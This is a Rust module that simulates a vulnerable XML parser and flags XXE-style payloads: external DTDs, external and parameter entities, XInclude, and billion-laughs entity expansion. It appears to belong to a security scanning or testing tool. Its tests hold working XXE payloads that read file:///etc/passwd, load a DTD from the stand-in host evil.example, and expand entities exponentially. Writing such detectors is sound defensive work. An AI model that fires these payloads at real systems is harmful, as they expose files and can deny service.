//! The XXE twin: an XML parser that loads DTDs, resolves external
//! entities and expands entities (libxml2 with `XML_PARSE_NOENT |
//! XML_PARSE_DTDLOAD`, old Java and .NET defaults). The document is read
//! with `quick-xml`; the DOCTYPE's internal subset is parsed here.
//!
//! Exploited by an external DTD, an external general entity referenced in
//! the document, an external parameter entity referenced in the DTD,
//! XInclude, or entity expansion that multiplies the document's size
//! (billion laughs).

use std::collections::HashMap;

use quick_xml::events::Event;
use quick_xml::Reader;

use crate::{Family, Outcome};

#[derive(Debug, Clone)]
struct Entity {
    parameter: bool,
    external: Option<String>,
    value: String,
}

/// Parses `<!ENTITY …>` declarations from a DOCTYPE's text.
fn entities(doctype: &str) -> HashMap<String, Entity> {
    let mut out = HashMap::new();
    let mut rest = doctype;
    while let Some(i) = rest.find("<!ENTITY") {
        rest = &rest[i + 8..];
        let decl_end = find_decl_end(rest);
        let decl = &rest[..decl_end];
        rest = &rest[decl_end..];
        let mut toks = tokens(decl).into_iter();
        let mut parameter = false;
        let Some(mut name) = toks.next() else {
            continue;
        };
        if name == "%" {
            parameter = true;
            let Some(n) = toks.next() else { continue };
            name = n;
        }
        let (mut external, mut value) = (None, String::new());
        match toks.next().as_deref() {
            Some("SYSTEM") => external = toks.next(),
            Some("PUBLIC") => {
                let _public_id = toks.next();
                external = toks.next();
            }
            Some(v) => value = v.to_string(),
            None => {}
        }
        out.entry(name).or_insert(Entity {
            parameter,
            external,
            value,
        });
    }
    out
}

/// The end of a declaration (the `>` outside quotes).
fn find_decl_end(s: &str) -> usize {
    let mut quote = None;
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, '>') => return i,
            _ => {}
        }
    }
    s.len()
}

/// Whitespace-separated tokens, quoted strings as one (quotes removed).
fn tokens(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = s.chars().peekable();
    while let Some(&c) = chars.peek() {
        if c.is_whitespace() {
            chars.next();
        } else if c == '"' || c == '\'' {
            chars.next();
            let mut t = String::new();
            for d in chars.by_ref() {
                if d == c {
                    break;
                }
                t.push(d);
            }
            out.push(t);
        } else {
            let mut t = String::new();
            while let Some(&d) = chars.peek() {
                if d.is_whitespace() || d == '"' || d == '\'' {
                    break;
                }
                t.push(d);
                chars.next();
            }
            out.push(t);
        }
    }
    out
}

/// `&name;` (or `%name;`) references in a text.
fn references(text: &str, sigil: char) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find(sigil) {
        let after = &rest[i + 1..];
        match after.find(';') {
            Some(e)
                if e > 0
                    && after[..e]
                        .chars()
                        .all(|c| c.is_alphanumeric() || "_-.:".contains(c)) =>
            {
                out.push(after[..e].to_string());
                rest = &after[e + 1..];
            }
            _ => rest = after,
        }
    }
    out
}

/// Expanded size of an entity (memoized; cycles count as huge).
fn expanded(
    name: &str,
    ents: &HashMap<String, Entity>,
    memo: &mut HashMap<String, u64>,
    depth: u8,
) -> u64 {
    if let Some(v) = memo.get(name) {
        return *v;
    }
    if depth > 32 {
        return u64::MAX / 4;
    }
    let Some(e) = ents.get(name) else { return 0 };
    let mut size = e.value.len() as u64;
    for r in references(&e.value, '&') {
        size = size.saturating_add(expanded(&r, ents, memo, depth + 1));
    }
    memo.insert(name.to_string(), size);
    size
}

/// Parses an (already URL-decoded) payload as a request body.
pub fn run(payload: &str) -> Option<Outcome> {
    let t = payload.trim_start();
    if !t.starts_with('<') || payload.len() > 65_536 {
        return None;
    }
    let mut reader = Reader::from_str(payload);
    let mut ents: HashMap<String, Entity> = HashMap::new();
    let mut body_refs: Vec<String> = Vec::new();
    let mut doctype_text = String::new();
    let mut found = None;
    loop {
        match reader.read_event() {
            Ok(Event::DocType(d)) => {
                doctype_text = String::from_utf8_lossy(&d).into_owned();
                ents = entities(&doctype_text);
                // `<!DOCTYPE r SYSTEM "http://…/evil.dtd">`: the parser loads it.
                let head = doctype_text.split('[').next().unwrap_or("");
                let toks = tokens(head);
                if let Some(k) = toks.iter().position(|t| t == "SYSTEM" || t == "PUBLIC") {
                    let uri = if toks[k] == "SYSTEM" {
                        toks.get(k + 1)
                    } else {
                        toks.get(k + 2)
                    };
                    if let Some(u) = uri {
                        found = Some(("external-dtd", format!("the parser loads the DTD {u}")));
                    }
                }
            }
            Ok(Event::Start(e)) | Ok(Event::Empty(e)) => {
                let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                if name.ends_with(":include") || name == "include" {
                    let href = e
                        .attributes()
                        .flatten()
                        .find(|a| a.key.as_ref() == b"href")
                        .map(|a| String::from_utf8_lossy(&a.value).into_owned());
                    if let Some(h) = href {
                        found = Some(("xinclude", format!("XInclude pulls in {h}")));
                    }
                }
                for a in e.attributes().flatten() {
                    body_refs.extend(references(&String::from_utf8_lossy(&a.value), '&'));
                }
            }
            Ok(Event::Text(t)) => body_refs.extend(references(&String::from_utf8_lossy(&t), '&')),
            Ok(Event::GeneralRef(r)) => body_refs.push(String::from_utf8_lossy(&r).into_owned()),
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
        if found.is_some() {
            break;
        }
    }
    if found.is_none() {
        // Parameter entities referenced inside the DTD.
        for r in references(&doctype_text, '%') {
            if let Some(e) = ents.get(&r).filter(|e| e.parameter) {
                let what = e
                    .external
                    .clone()
                    .unwrap_or_else(|| "an internal parameter entity".into());
                found = Some((
                    "parameter-entity",
                    format!("the DTD expands %{r}; ({what})"),
                ));
                break;
            }
        }
    }
    if found.is_none() {
        for r in &body_refs {
            if let Some(e) = ents.get(r).filter(|e| !e.parameter) {
                if let Some(uri) = &e.external {
                    found = Some(("external-entity", format!("&{r}; reads {uri}")));
                    break;
                }
            }
        }
    }
    if found.is_none() {
        let mut memo = HashMap::new();
        let total: u64 = body_refs
            .iter()
            .map(|r| expanded(r, &ents, &mut memo, 0))
            .fold(0u64, u64::saturating_add);
        // Amplification a parser would refuse: 20× the document and 10 KB, or 1 MB.
        let len = payload.len() as u64;
        if total >= 1 << 20 || (total >= 10_240 && total >= len.saturating_mul(20)) {
            found = Some((
                "entity-expansion",
                format!(
                    "entity expansion produces {total} bytes from {}",
                    payload.len()
                ),
            ));
        }
    }
    found.map(|(context, evidence)| Outcome {
        family: Family::Xxe,
        context,
        evidence,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for p in [
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
            "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><l>&e;</l>",
        ] {
            assert!(run(p).is_some(), "{p}");
        }
    }

    #[test]
    fn plain_xml_is_harmless() {
        for p in [
            "<order><id>7</id><note>fish &amp; chips</note></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE r [<!ENTITY co \"ACME Corp\">]><r>&co;</r>",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>unused</r>",
            "not xml",
            "<b>bold</b>",
        ] {
            assert!(run(p).is_none(), "{p}: {:?}", run(p));
        }
    }
}
